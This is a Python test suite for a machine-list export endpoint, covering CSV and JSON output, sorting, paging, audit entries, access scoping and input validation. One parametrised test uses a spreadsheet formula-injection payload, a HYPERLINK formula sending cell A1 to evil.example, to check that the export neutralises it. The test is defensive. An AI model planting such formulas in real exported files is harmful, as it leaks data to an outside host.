"""The machine list as a file: complete, harmless in a spreadsheet, read page by page, and on the record."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest
from sqlalchemy import delete, select

from autorke.core import db
from autorke.machines import export
from autorke.machines.export import Order, RightsChanged
from autorke.users.access import Actor, current_bindings
from autorke.users.models import AuditEntry, RoleBinding
from tests.api import V1, Api, counted
from tests.machines.test_set_routes import make, serve

URL = f"{V1}/machines/export"


def rows(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    text = answer.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def test_the_file_holds_what_the_list_shows(api: Api) -> None:
    make(1, hostname="b", rack="B1", owner="数据库组")
    make(1, hostname="a", rack="B1", labels={"pool": "blue"})
    make(1, hostname="c", rack="B2")
    viewer = api.caller("viewer")
    listed = viewer.get(f"{V1}/machines", params={"filter": "rack:eq:B1"}).json()["items"]
    answer = viewer.get(URL, params={"filter": "rack:eq:B1"})
    found = rows(answer)
    assert [row["hostname"] for row in found] == ["a", "b"]
    assert set(found[0]) == set(listed[0])
    assert (found[1]["owner"], found[0]["labels"], found[0]["ticket_id"]) == ("数据库组", '{"pool": "blue"}', "")
    assert answer.headers["content-disposition"].startswith('attachment; filename="machines-2')
    chosen = viewer.get(URL, params={"columns": "sn, hostname", "sort": "-hostname", "format": "json"})
    assert chosen.headers["content-type"] == "application/json"
    assert [list(row) for row in chosen.json()] == [["sn", "hostname"]] * 3
    assert [row["hostname"] for row in chosen.json()] == ["c", "b", "a"]
    one = viewer.get(URL, params={"columns": "cpu_cores", "format": "json", "filter": "hostname:eq:a"}).json()
    assert one == [{"cpu_cores": 0}]
    assert viewer.get(URL, params={"format": "json", "filter": "rack:eq:none"}).json() == []
    assert rows(viewer.get(URL, params={"filter": "rack:eq:none"})) == []


@pytest.mark.parametrize("lead", [*"=+-@＝＋－＠"])
def test_no_cell_is_a_formula(api: Api, lead: str) -> None:
    hostile = lead + 'HYPERLINK("http://evil.example/?"&A1)'
    make(1, owner=hostile, rack='a"b,c')
    (row,) = rows(api.caller("viewer").get(URL))
    assert row["owner"] == "'" + hostile
    assert row["rack"] == 'a"b,c'


def test_every_page_is_written_once_and_in_order(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "ROWS", 3)
    make(10, rack="B1")
    viewer = api.caller("viewer")
    for sort in ("hostname", "-rack", "cpu_cores,-hostname"):
        names = [row["hostname"] for row in rows(viewer.get(URL, params={"sort": sort}))]
        listed = viewer.get(f"{V1}/machines", params={"sort": sort}).json()["items"]
        assert names == [row["hostname"] for row in listed]
    assert len(viewer.get(URL, params={"format": "json"}).json()) == 10


def _actor(api: Api, *roles: Any) -> Actor:
    user_id = api.user("li", *roles)
    with db.transaction() as session:
        return Actor(user_id, "li", current_bindings(session, user_id), "token", user_id, None)


def _written(actor: Actor) -> Any:
    order = Order((), "", ["hostname"], "csv")
    with db.transaction() as session:
        first = export.read_page(session, actor, order)
    return export.write(actor, order, first)


def test_a_slow_reader_holds_one_page_and_no_transaction(
    api: Api, engine: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "ROWS", 2)
    make(6)
    pieces = _written(_actor(api, "viewer"))
    with counted(engine) as statements:
        assert next(pieces).count(b"bm-") == 2
        assert statements == [], "the first page was read with the request"
        assert next(pieces).count(b"bm-") == 2
        assert len(statements) == 2, "the rights and one page"
        assert engine.pool.checkedout() == 0
        assert next(pieces).count(b"bm-") == 2
        assert len(statements) == 4


def test_the_download_breaks_off_when_rights_are_taken_away(api: Api, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "ROWS", 2)
    make(6)
    pieces = _written(_actor(api, "viewer"))
    next(pieces)
    with db.transaction() as session:
        session.execute(delete(RoleBinding))
    with pytest.raises(RightsChanged):
        next(pieces)


def test_an_export_is_audited_and_keeps_to_the_callers_clusters(api: Api) -> None:
    mine, theirs = api.cluster("mine"), api.cluster("theirs")
    inside, outside, _free = make(3, owner="a")
    serve(mine, "mine", inside)
    serve(theirs, "theirs", outside)
    viewer = api.caller("viewer", cluster_id=mine, name="wei")
    found = rows(viewer.get(URL, params={"filter": "owner:eq:a", "columns": "cluster_name"}))
    assert sorted(row["cluster_name"] for row in found) == ["", "mine"]
    with db.transaction() as session:
        entry = session.scalars(select(AuditEntry).where(AuditEntry.action == "machine.export")).one()
    assert entry.actor_name == "wei"
    assert entry.detail == {"rows": 2, "filters": ["owner:eq:a"], "columns": ["cluster_name"], "format": "csv"}


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"filter": "colour:eq:red"}, "filter"),
        ({"sort": "colour"}, "sort"),
        ({"columns": "hostname,host_key"}, "columns"),
        ({"format": "xls"}, "format"),
    ],
)
def test_a_bad_wish_is_a_refusal_and_no_file(api: Api, params: dict[str, str], field: str) -> None:
    answer = api.caller("viewer").get(URL, params=params)
    assert (answer.status_code, answer.json()["field"]) == (422, field)
    assert json.loads(answer.content)["remedy"]["zh"]
    with db.transaction() as session:
        assert session.scalars(select(AuditEntry)).all() == []
